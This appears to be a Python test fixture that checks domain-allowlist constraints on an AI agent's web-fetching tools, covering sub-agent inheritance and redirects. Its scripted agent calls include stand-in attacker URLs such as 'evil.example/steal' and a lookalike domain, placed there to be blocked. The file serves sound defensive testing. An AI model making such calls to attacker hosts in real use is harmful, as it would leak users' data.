"""Prompts and tools for the domain-allowlist tests (tests/test_domains.py):
def_constraint(..., "domains") on tool arguments, inherited by sub-agents, and enforced
inside an @tool activity by allowed_http_session (redirects included)."""

from __future__ import annotations

from collections import Counter

from pydantic import BaseModel
from temporalio import workflow

from lmthing import ToolContext, prompt, tool
from lmthing.activities.http import allowed_http_session
from lmthing.testing import scripted_model, text, tool_call

with workflow.unsafe.imports_passed_through():
    # The local web server's URLs, set by the test (the scripted model reads them when it answers).
    from tests.apps.web_urls import URLS

CALLS: Counter[str] = Counter()


@tool
def fetch_page(url: str) -> dict:
    """Fetch a web page (counts the calls; fetches nothing)."""
    CALLS["fetch_page"] += 1
    return {"url": url, "text": "a page"}


@tool
async def browse(url: str, ctx: ToolContext) -> dict:
    """Fetch a page over HTTP, following redirects, within the run's allowlists."""
    CALLS["browse"] += 1
    async with allowed_http_session(ctx) as http, http.get(url) as reply:
        return {"status": reply.status, "text": await reply.text()}


class Site(BaseModel):
    site: str


@prompt(model=scripted_model("domains-args", [
    [tool_call("fetch_page", {"url": "https://docs.python.org/3/library/asyncio.html"}),
     tool_call("fetch_page", {"url": "https://evil.example/steal?x=1"}),
     tool_call("fetch_page", {"url": "docs.python.org.evil.example/page"})],
    text("done"),
]))
def fetch_off_list(p):
    p.def_constraint("web", "domains", allow=["python.org", "*.wikipedia.org"])
    p.def_tool(fetch_page)
    p.user("Read the docs.")


def _child(args: Site, child):
    # The child allows more than its parent; the parent's allowlist still holds.
    child.def_constraint("child_web", "domains", allow=["python.org", "evil.example"])
    child.def_tool(fetch_page)
    child.user(f"Read {args.site}.")


@prompt(model=scripted_model("domains-tree", [tool_call("reader", {"site": "two sites"}), text("the reader is done")],
                             agents={"reader": [
                                 [tool_call("fetch_page", {"url": "https://www.python.org/"}),
                                  tool_call("fetch_page", {"url": "https://evil.example/"})],
                                 text("read one of two")]}))
def domain_tree(p):
    p.def_constraint("web", "domains", allow=["python.org"])
    p.def_agent("reader", "Reads sites", Site, _child)
    p.user("Read the sites.")


@prompt(model=scripted_model("domains-redirect", [
    lambda request: [tool_call("browse", {"url": URLS["ok"]}), tool_call("browse", {"url": URLS["jump"]})],
    text("done"),
]))
def redirected_fetch(p):
    p.def_constraint("local", "domains", allow=["127.0.0.1"])
    p.def_tool(browse)
    p.user("Browse.")
